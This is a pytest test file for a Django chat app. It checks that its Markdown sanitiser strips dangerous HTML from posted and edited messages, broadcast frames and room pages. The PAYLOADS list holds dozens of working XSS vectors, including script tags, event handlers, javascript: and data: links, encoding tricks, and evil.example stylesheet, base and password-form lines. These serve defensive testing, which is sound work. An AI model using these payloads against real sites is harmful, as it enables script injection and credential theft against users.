"""Messages are Markdown rendered once, on write, and cleaned with an allow-list. Whatever a person
types, no script, event handler, style or javascript:/data: URL reaches another person's page, neither
in the stored HTML, nor in the broadcast frame, nor in the room page."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from messaging import events, services

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\">x</a>",
    "<a href=\"https://ok.example\" style=\"position:fixed;top:0\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif\" onerror=\"alert(1))",
    "[x](https://ok.example \"title\" onmouseover=alert(1))",
    "<javascript:alert(1)>",
    "<https://ok.example/\" onmouseover=\"alert(1)>",
    "[a]: javascript:alert(1)\n\n[link][a]",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<table background=\"javascript:alert(1)\">",
    "<span class=\"mention\" onclick=\"alert(1)\">@ana</span>",
    "<span class=\"x\" id=\"evil\">hi</span>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "> <img src=x onerror=alert(1)>",
    "* <a href=javascript:alert(1)>x</a>",
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "**<img src=x onerror=alert(1)>**",
    "@ana <script>alert(1)</script>",
    "@ana\" onmouseover=\"alert(1)",
    "<a href=\"https://ok.example/@ana\">@ana</a>",
    "[@ana](javascript:alert(1))",
    "\u202e<script>alert(1)</script>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<x onclick=alert(1)>click",
    "<a href=# onclick=alert(1)>x</a>",
]

FORBIDDEN_TAGS = {
    "script", "style", "iframe", "object", "embed", "img", "svg", "math", "form", "input", "button", "link",
    "meta", "base", "video", "audio", "source", "details", "marquee", "body", "x", "textarea",
}
SAFE_SCHEMES = ("http://", "https://", "mailto:")


class Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "background", "id"}:
                self.problems.append(f"{tag}[{name}]")
            if name == "href" and value is not None:
                cleaned = "".join(value.split()).lower()
                if not cleaned.startswith(SAFE_SCHEMES):
                    self.problems.append(f"href={value!r}")
            if name == "class" and not (tag == "span" and value == "mention"):
                self.problems.append(f"{tag}[class={value}]")


def problems(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_rendering(general, ana, mateo, payload):
    message = services.message_post(room=general, author=mateo, body=payload)
    assert problems(message.body_html) == []
    assert problems(events.message_frame(message)["html"]) == []


def test_no_payload_survives_an_edit(general, ana, no_rate_limits):
    message = services.message_post(room=general, author=ana, body="hola")
    for payload in PAYLOADS:
        services.message_edit(message=message, editor=ana, body=payload + " ")
        message.refresh_from_db()
        assert problems(message.body_html) == [], payload


def test_the_room_page_shows_every_payload_harmlessly(client, general, ana, mateo, no_rate_limits):
    for payload in PAYLOADS:
        services.message_post(room=general, author=mateo, body=payload)
    client.force_login(ana)
    url = reverse("messaging:room", args=[general.pk])
    newest = client.get(url)
    older = client.get(url, {"before": newest.context["older_id"]})
    page = newest.content.decode() + older.content.decode()
    # The sanitiser allows no <div>, so a body ends at the first </div>.
    bodies = re.findall(r'<div class="msg-body">(.*?)</div>', page, re.DOTALL)
    assert len(bodies) == len(PAYLOADS)
    for body in bodies:
        assert problems(body) == [], body


def test_links_get_nofollow_noopener(general, ana):
    message = services.message_post(room=general, author=ana, body="[FDA](https://www.fda.gov/food)")
    assert 'href="https://www.fda.gov/food"' in message.body_html
    assert 'rel="nofollow noopener"' in message.body_html
